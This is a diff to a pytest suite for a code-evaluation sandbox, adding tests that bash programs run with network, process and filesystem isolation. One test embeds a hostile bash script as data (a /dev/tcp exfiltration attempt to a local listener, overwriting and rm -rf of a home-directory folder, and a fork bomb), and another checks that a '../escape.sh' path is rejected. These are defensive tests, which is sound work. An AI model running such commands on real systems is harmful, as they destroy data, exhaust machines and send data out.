@@ -18,7 +18,7 @@ from pathlib import Path
 
 import pytest
 
-from tasks.evaluate.sandbox import Limits, run_program, run_programs, sandbox_support
+from tasks.evaluate.sandbox import Command, Limits, run_program, run_programs, sandbox_support
 
 TIMEOUT = 1.0
 MODES = {
@@ -244,3 +244,65 @@ def test_isolation_layers_are_reported() -> None:
     assert "rlimits" in layers and "audit" in layers
     if os.geteuid() == 0:
         assert {"netns", "pidns", "uid"} <= set(layers), layers
+
+
+# ---------------------------------------------------------------- programs in other languages (exec)
+EXEC = Limits(memory_mb=512, nproc=64)
+BASH = Command("test.sh", "bash test.sh\n")
+
+
+def _exec_limits() -> Limits:
+    if "netns" not in sandbox_support(EXEC):
+        pytest.skip(f"namespaces not permitted here: {sandbox_support(EXEC)}")
+    return EXEC
+
+
+def test_exec_program_runs_its_toolchain_in_the_locked_down_child() -> None:
+    limits = _exec_limits()
+    ok = run_program('echo "$0 in $PWD as $(id -u)"\n[[ -f test.sh ]]\n', TIMEOUT, limits, BASH)
+    assert ok.status == "passed", ok
+    assert "exec" in ok.isolation and {"netns", "pidns", "mntns", "uid"} <= set(ok.isolation), ok.isolation
+    assert "test.sh in /tmp/work as " in ok.stdout_tail and not ok.stdout_tail.strip().endswith(" 0")
+    failed = run_program('echo "wrong answer" >&2\nexit 3\n', TIMEOUT, limits, BASH)
+    assert failed.status == "failed" and failed.returncode == 3 and failed.detail == "wrong answer"
+    looping = run_program("while :; do :; done\n", TIMEOUT, limits, BASH)
+    assert looping.status == "timeout"
+    assert_harness_intact(limits)
+
+
+def test_exec_program_cannot_reach_the_network_or_change_host_files(tmp_path: Path) -> None:
+    limits = _exec_limits()
+    listener = Listener()
+    try:
+        victim = Path(tempfile.mkdtemp(prefix=".evaluate-sandbox-test-", dir=Path.home()))
+    except OSError:
+        listener.close()
+        pytest.skip("home directory not writable")
+    try:
+        planted = victim / "planted.txt"
+        planted.write_text("keep me")
+        program = textwrap.dedent(f"""
+            cat {planted}                       # readable, as the toolchains under a private home must be
+            (exec 3<>/dev/tcp/127.0.0.1/{listener.port} && echo exfiltrated >&3) || echo "no network" >&2
+            echo overwritten > {planted} || true
+            rm -rf {victim} || true
+            :(){{ :|:& }};: 2>/dev/null || true   # fork bomb: capped by the run's process limit, ended with it
+            sleep 30
+        """)
+        res = run_program(program, 2.0, limits, BASH)
+        time.sleep(0.3)
+        assert res.status == "timeout", res
+        assert res.stdout_tail.startswith("keep me") and "no network" in res.stderr_tail
+        assert planted.read_text() == "keep me" and listener.received == []
+        assert sandbox_uid_processes() == []
+    finally:
+        listener.close()
+        shutil.rmtree(victim, ignore_errors=True)
+    assert_harness_intact(limits)
+
+
+def test_command_rejects_what_cannot_travel_to_the_fork_server() -> None:
+    with pytest.raises(ValueError):
+        Command("../escape.sh", "bash ../escape.sh")
+    with pytest.raises(ValueError):
+        Command("test.sh", "bash test.sh", env=(("A", "tab\there"),))
